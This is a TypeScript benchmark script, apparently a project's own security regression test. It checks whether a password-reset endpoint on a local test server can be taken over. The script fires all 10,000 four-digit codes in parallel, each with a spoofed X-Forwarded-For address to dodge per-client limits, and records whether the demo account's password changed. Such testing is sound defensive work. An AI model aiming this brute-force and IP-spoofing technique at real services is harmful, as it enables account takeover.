/**
 * The takeover probe of issue 20, finding 1, against the real server (`node --import tsx
 * apps/server/src/main.ts` on a fresh database, test mode so the probe can read the code it asked
 * for). Per burst: ask for a reset code of one demo phone, then fire every code 0000..9999 at once
 * as `PUT resetPassword` (the right one among them), each from its own address (TRUST_PROXY and
 * X-Forwarded-For, as a botnet would). Then a burst of 10,000 `checkVerifyCode` guesses. Prints,
 * per burst, how the guesses were answered, how many were compared (the attempts stored), whether
 * the password changed, and the time taken. Before the fix 1 burst in 6 took the account and
 * 8,313 of 10,000 checkVerifyCode guesses were compared.
 *
 *   TEST_DATABASE_URL=postgres://postgres@127.0.0.1:5432/postgres npx tsx bench/code-guess.ts
 *
 * CODE_GUESS_BURSTS (default 6, at most 6: one demo phone each), CODE_GUESS_N (default 10000),
 * CODE_GUESS_SOCKETS (default 1000 connections in flight).
 */
import type { ChildProcess } from 'node:child_process';
import http from 'node:http';
import { childSite, query } from './childSite.ts';

const BURSTS = Math.min(6, Number(process.env.CODE_GUESS_BURSTS ?? 6));
const N = Number(process.env.CODE_GUESS_N ?? 10_000);
const agent = new http.Agent({ keepAlive: true, maxSockets: Number(process.env.CODE_GUESS_SOCKETS ?? 1000) });

const site = await childSite('code_guess', 'code-guess-secret-code-guess-secret', { TRUST_PROXY: '1' });

let addressSeq = 0;
/** A fresh client address per request (10.x.y.z). */
const nextAddress = () => {
  addressSeq += 1;
  return `10.${(addressSeq >> 16) & 255}.${(addressSeq >> 8) & 255}.${addressSeq & 255}`;
};

function call(method: string, path: string, from: string, body?: unknown) {
  return new Promise<{ status: number; body: string }>((resolve, reject) => {
    const data = body === undefined ? undefined : JSON.stringify(body);
    const req = http.request(
      {
        host: '127.0.0.1',
        port: site.port,
        path,
        method,
        agent,
        headers: {
          'x-forwarded-for': from,
          ...(data ? { 'content-type': 'application/json', 'content-length': Buffer.byteLength(data) } : {}),
        },
      },
      (res) => {
        let text = '';
        res.on('data', (c) => {
          text += c;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text }));
      },
    );
    req.on('error', reject);
    if (data) req.write(data);
    req.end();
  });
}

const codes = Array.from({ length: N }, (_, i) => String(i % 10_000).padStart(4, '0'));

function tally(res: { status: number; body: string }[]) {
  const out: Record<string, number> = {};
  for (const r of res) {
    let code: unknown = '';
    try {
      code = (JSON.parse(r.body) as { code?: unknown }).code;
    } catch {
      code = 'not json';
    }
    const k = `${r.status}/${code}`;
    out[k] = (out[k] ?? 0) + 1;
  }
  return out;
}

async function burst(kind: 'resetPassword' | 'checkVerifyCode', phone: string) {
  const target = `86-${phone}`;
  const asked = await call(
    'GET',
    `/api/user/baseaccount/getVerifyCode?phoneNum=${phone}&codeType=3`,
    nextAddress(),
  );
  if (asked.status !== 200) throw new Error(`code request: ${asked.status} ${asked.body}`);
  const before = await query<{ password_hash: string }>(
    site.dbUrl,
    'SELECT password_hash FROM users WHERE phone = $1',
    [phone],
  );
  const t0 = Date.now();
  const res = await Promise.all(
    codes.map((verifyCode) =>
      kind === 'resetPassword'
        ? call('PUT', '/api/user/baseaccount/resetPassword', nextAddress(), {
            phoneNum: phone,
            password: 'Taken2026x',
            verifyCode,
          }).catch((e: Error) => ({ status: -1, body: e.message }))
        : call(
            'GET',
            `/api/user/baseaccount/checkVerifyCode?phoneNum=${phone}&code=${verifyCode}&checkOpr=3`,
            nextAddress(),
          ).catch((e: Error) => ({ status: -1, body: e.message })),
    ),
  );
  const ms = Date.now() - t0;
  const after = await query<{ password_hash: string }>(
    site.dbUrl,
    'SELECT password_hash FROM users WHERE phone = $1',
    [phone],
  );
  const [attempts] = await query<{ n: number }>(
    site.dbUrl,
    'SELECT coalesce(sum(attempts), 0)::int AS n FROM verify_codes WHERE target = $1',
    [target],
  );
  return {
    kind,
    phone,
    guesses: N,
    answers: tally(res),
    comparedWrong: attempts?.n,
    accepted: res.filter((r) => r.status === 200).length,
    passwordChanged: before[0]?.password_hash !== after[0]?.password_hash,
    seconds: ms / 1000,
  };
}

let server: ChildProcess | null = null;
try {
  server = await site.start();
  const results = [];
  const phones = ['13800000004', '13800000005', '13800000006', '13800000007', '13800000008', '13800000009'];
  for (let i = 0; i < BURSTS; i++) results.push(await burst('resetPassword', phones[i] as string));
  results.push(await burst('checkVerifyCode', '13800000001'));
  // A code request takes the same time for a registered and an unregistered phone (nothing to probe).
  const requestMs = async (phone: string) => {
    const t0 = performance.now();
    const r = await call(
      'GET',
      `/api/user/baseaccount/getVerifyCode?phoneNum=${phone}&codeType=3`,
      nextAddress(),
    );
    if (r.status !== 200) throw new Error(`code request: ${r.status} ${r.body}`);
    return Math.round((performance.now() - t0) * 10) / 10;
  };
  const codeRequestMs = {
    registered: [await requestMs('13800000002'), await requestMs('13800000003')],
    unregistered: [await requestMs('13911110001'), await requestMs('13911110002')],
  };
  console.log(
    JSON.stringify(
      {
        bursts: results,
        takeovers: results.filter((r) => r.passwordChanged || r.accepted > 0).length,
        codeRequestMs,
      },
      null,
      2,
    ),
  );
} finally {
  server?.kill('SIGKILL');
  agent.destroy();
  await site.drop();
}
